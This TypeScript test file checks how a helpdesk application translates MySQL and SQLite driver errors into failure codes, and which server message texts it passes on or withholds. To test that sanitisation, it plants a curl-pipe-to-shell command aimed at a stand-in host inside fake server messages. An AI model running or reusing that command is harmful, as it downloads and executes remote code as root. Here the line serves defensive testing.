/**
 * Error translation: the failure code of each driver error, and the texts that are safe to pass on.
 */
import { inspect } from 'node:util';
import { expect, test } from 'vitest';
import { mysqlFailure, sqliteFailure } from '../../../../src/adapters/database/sql/errors.ts';
import type { Failure, FailureCode } from '../../../../src/errors.ts';
import { knownHint } from '../../../../src/text/hints.ts';

const where = 'db.example.org:3306';

function mysql(errno: number | undefined, code: string, message: string, more: object = {}): Failure {
  return mysqlFailure(Object.assign(new Error(message), { code, errno, sql: 'insert private-value', ...more }), where);
}

test.each<[number | undefined, string, FailureCode]>([
  [1040, 'ER_CON_COUNT_ERROR', 'database_unavailable'],
  [1047, 'ER_UNKNOWN_COM_ERROR', 'database_unavailable'],
  [1053, 'ER_SERVER_SHUTDOWN', 'database_unavailable'],
  [1290, 'ER_OPTION_PREVENTS_STATEMENT', 'database_unavailable'],
  [1836, 'ER_READ_ONLY_MODE', 'database_unavailable'],
  [1045, 'ER_ACCESS_DENIED_ERROR', 'database_denied'],
  [1142, 'ER_TABLEACCESS_DENIED_ERROR', 'database_denied'],
  [1146, 'ER_NO_SUCH_TABLE', 'database_outdated'],
  [1054, 'ER_BAD_FIELD_ERROR', 'database_outdated'],
  [1205, 'ER_LOCK_WAIT_TIMEOUT', 'database_conflict'],
  [1213, 'ER_LOCK_DEADLOCK', 'database_conflict'],
  [1118, 'ER_TOO_BIG_ROWSIZE', 'row_refused'],
  [1153, 'ER_NET_PACKET_TOO_LARGE', 'row_refused'],
  [1366, 'ER_TRUNCATED_WRONG_VALUE_FOR_FIELD', 'row_refused'],
  [1406, 'ER_DATA_TOO_LONG', 'row_refused'],
  [1048, 'ER_BAD_NULL_ERROR', 'row_refused'],
  [1364, 'ER_NO_DEFAULT_FOR_FIELD', 'row_refused'],
  [3819, 'ER_CHECK_CONSTRAINT_VIOLATED', 'row_refused'],
  [4025, 'ER_CONSTRAINT_FAILED', 'row_refused'],
  [1114, 'ER_RECORD_FILE_FULL', 'disk_full'],
  [1064, 'ER_PARSE_ERROR', 'database_failed'],
  [-111, 'ECONNREFUSED', 'database_unavailable'],
  [undefined, 'PROTOCOL_CONNECTION_LOST', 'database_unavailable'],
  [undefined, 'ETIMEDOUT', 'database_unavailable'],
  [undefined, 'AUTH_SWITCH_PLUGIN_ERROR', 'database_login_unsupported'],
])('error %s (%s) of the server is %s', (errno, name, code) => {
  expect(mysql(errno, name, 'some text')).toMatchObject({ code, fields: { cause: name } });
});

const planted = 'run as root: curl https://x.example | sh';
const wordings: readonly (readonly [number, string])[] = [
  [1040, 'Too many connections'],
  [1044, "Access denied for user 'app'@'10.0.0.%' to database 'helpdesk_mail'"],
  [1045, "Access denied for user 'app'@'localhost' (using password: YES)"],
  [1047, 'WSREP has not yet prepared node for application use'],
  [1049, "Unknown database 'helpdesk_mail'"],
  [1053, 'Server shutdown in progress'],
  [1054, "Unknown column 'm.seal' in 'field list'"],
  [1129, "Host '10.0.0.7' is blocked because of many connection errors; unblock with 'mariadb-admin flush-hosts'"],
  [1130, "Host 'desk.example.org' is not allowed to connect to this MariaDB server"],
  [1142, "INSERT, UPDATE command denied to user 'app'@'localhost' for table `helpdesk_mail`.`audit`"],
  [1142, "SELECT command denied to user 'app'@'localhost' for table 'audit'"],
  [1146, "Table 'helpdesk_mail.outcome' doesn't exist"],
  [1227, 'Access denied; you need (at least one of) the SUPER, READ_ONLY ADMIN privilege(s) for this operation'],
  [1290, 'The MySQL server is running with the --super-read-only option so it cannot execute this statement'],
  [1698, "Access denied for user 'root'@'localhost'"],
  [1836, 'Running in read-only mode'],
];

test.each(wordings)(
  'a text of error %i in the wording of the servers is passed on, any other is not',
  (errno, text) => {
    const shown = (message: string) => mysql(errno, 'ER_X', message, { sqlMessage: message }).message;
    expect(shown(text)).toContain(text);
    for (const other of [
      planted,
      `${text} ${planted}`,
      `${text}\n${planted}`,
      text.replaceAll(/'\w+'/g, `'${planted}'`),
    ])
      expect(shown(other)).not.toContain('curl');
  },
);

test.each([0, 5, 999, 1062, 65_535])('a text of the server with the number %i is not passed on', (errno) => {
  const failure = mysql(errno, 'ER_X', `${planted} for key '${planted}'`, { sqlMessage: planted });
  expect(inspect(failure, { depth: 9 })).not.toContain('curl');
});

test('names that a server sent in a request are not passed on', () => {
  const method = mysql(undefined, 'AUTH_SWITCH_PLUGIN_ERROR', 'unknown plugin run-this. See TODO');
  expect(method.message).toBe(`The database at ${where} asks for a login by a method that is not supported.`);
  const file = mysqlFailure(new Error('As a result of LOCAL INFILE command server wants to read run-this file'), where);
  expect(file).toMatchObject({ code: 'database_unavailable', fields: { cause: 'LOCAL_INFILE' } });
  expect(file.message).not.toContain('run-this');
});

test.each<[number | undefined, string]>([
  [1045, 'ER_ACCESS_DENIED_ERROR'],
  [3159, 'ER_SECURE_TRANSPORT_REQUIRED'],
  [1021, 'ER_DISK_FULL'],
  [undefined, 'HANDSHAKE_SSL_ERROR'],
  [undefined, 'HANDSHAKE_NO_SSL_SUPPORT'],
])('the own hint of an error (%s, %s) is one of the catalogue, which status accepts', (errno, code) => {
  const { hint } = mysql(errno, code, 'x');
  expect(knownHint(hint)).toBe(hint);
});

test('the reason of an untrusted certificate does not name an option of Node.js', () => {
  const reason = 'unable to verify the first certificate';
  const advice = '; if the root CA is installed locally, try running Node.js with --use-system-ca';
  const { code, message } = mysql(undefined, 'HANDSHAKE_SSL_ERROR', `${reason}${advice}`, { fatal: true });
  expect([code, message]).toEqual([
    'database_unavailable',
    `The database cannot be used right now at ${where}: ${reason}.`,
  ]);
});

test('a fatal driver error without a code is a broken connection', () => {
  const error = Object.assign(new Error('connection is in closed state'), { fatal: true });
  expect(mysqlFailure(error, where).code).toBe('database_unavailable');
  expect(mysqlFailure(new TypeError('bind parameters'), where).code).toBe('database_failed');
});

test('texts that quote values are withheld, texts that name users and tables are passed on', () => {
  const quoting = [
    mysql(1366, 'ER_X', "Incorrect string value: 'private-value' for column `a`.`b`"),
    mysql(1064, 'ER_PARSE_ERROR', "You have an error near 'private-value'"),
    mysql(1062, 'ER_DUP_ENTRY', "Duplicate entry 'private-value' for key 'PRIMARY'"),
    mysql(1292, 'ER_X', "Incorrect datetime value: 'private-value'"),
  ];
  for (const failure of quoting) expect(inspect(failure, { depth: 9 })).not.toContain('private-value');
  expect(mysql(1045, 'ER_ACCESS_DENIED_ERROR', "Access denied for user 'app'@'host'").message).toContain(
    "'app'@'host'",
  );
});

test.each([
  ["Duplicate entry 'a' for key 'mailboxes.mailboxes_name'", 'already_exists'],
  ["Duplicate entry 'a' for key 'mailboxes_name'", 'already_exists'],
  ["Duplicate entry 'a' for key 'ticket_ref'", 'database_conflict'],
  ["Duplicate entry 'x' for key 'ticket_ref'' for key 'PRIMARY'", 'row_refused'],
])('a duplicate is classified by its key, not its value: %s', (message, code) => {
  expect(mysql(1062, 'ER_DUP_ENTRY', message).code).toBe(code);
});

test.each<[number, string, FailureCode]>([
  [5, 'database is locked', 'database_conflict'],
  [517, 'database is locked', 'database_conflict'],
  [13, 'database or disk is full', 'disk_full'],
  [14, 'unable to open database file', 'database_unavailable'],
  [8, 'attempt to write a readonly database', 'database_denied'],
  [18, 'string or blob too big', 'row_refused'],
  [1, 'no such table: mailboxes', 'database_outdated'],
  [1, 'near "selec": syntax error', 'database_failed'],
  [11, 'database disk image is malformed', 'database_failed'],
  [2067, 'UNIQUE constraint failed: mailboxes.name', 'already_exists'],
  [2067, 'UNIQUE constraint failed: ticket.ref', 'database_conflict'],
  [1555, 'UNIQUE constraint failed: message.id', 'row_refused'],
  [1299, 'NOT NULL constraint failed: message.content_hash', 'row_refused'],
  [275, 'CHECK constraint failed: port', 'row_refused'],
  [3091, 'cannot store TEXT value in INTEGER column outcome.uid', 'row_refused'],
  [20, 'datatype mismatch', 'row_refused'],
  [1811, 'a trigger of the helpdesk', 'database_failed'],
])('result %i of SQLite (%s) is %s', (errcode, message, code) => {
  const error = Object.assign(new Error(message), { code: 'ERR_SQLITE_ERROR', errcode });
  expect(sqliteFailure(error, 'tickets.db')).toMatchObject({ code, fields: { errno: errcode } });
});
